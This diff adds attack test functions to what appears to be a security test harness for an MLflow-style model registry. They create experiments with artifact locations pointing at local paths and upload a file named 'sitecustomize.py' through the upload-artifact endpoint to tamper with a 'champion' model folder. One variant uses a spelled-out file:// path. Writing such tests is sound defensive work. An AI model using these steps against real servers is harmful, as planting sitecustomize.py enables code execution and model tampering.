@@ -48,6 +48,38 @@ def delete_a_folder_above_the_champion(scene: Scene) -> bool:
     return changed(scene)
 
 
+def _upload_by_an_experiment(scene: Scene, location: str, path: str) -> None:
+    """Have the server write to a location of one's own choice, by the route of the client's `log_artifact`."""
+    arena = scene.arena
+    body = {"name": f"mine-{scene.name}-{len(location)}", "artifact_location": location}
+    experiment = arena.call("POST", "experiments/create", body)
+    if not experiment.ok:
+        return
+    body = {"experiment_id": experiment.json()["experiment_id"]}
+    run = arena.ok("POST", "runs/create", body)["run"]["info"]["run_id"]
+    url = f"{arena.running.uri}/ajax-api/2.0/mlflow/upload-artifact"
+    arena.session.post(url, params={"run_uuid": run, "path": path}, data=b"evil", timeout=60)
+
+
+@attack()
+def upload_beside_the_champion_by_an_experiments_location(scene: Scene) -> bool:
+    _upload_by_an_experiment(scene, scene.path(scene.good).as_uri(), "sitecustomize.py")
+    return changed(scene)
+
+
+@attack()
+def upload_below_the_champion_by_an_experiments_plain_path(scene: Scene) -> bool:
+    _upload_by_an_experiment(scene, f"{scene.path(scene.good)}/code", "sitecustomize.py")
+    return changed(scene)
+
+
+@attack()
+def upload_beside_the_champion_by_a_spelled_out_location(scene: Scene) -> bool:
+    folder = scene.path(scene.good)
+    _upload_by_an_experiment(scene, f"file://{folder.parent}/./{folder.name}/", "sitecustomize.py")
+    return changed(scene)
+
+
 @attack()
 def overwrite_files_between_evidence_and_promotion(scene: Scene) -> bool:
     candidate = scene.version({"weights.safetensors": b"good"})
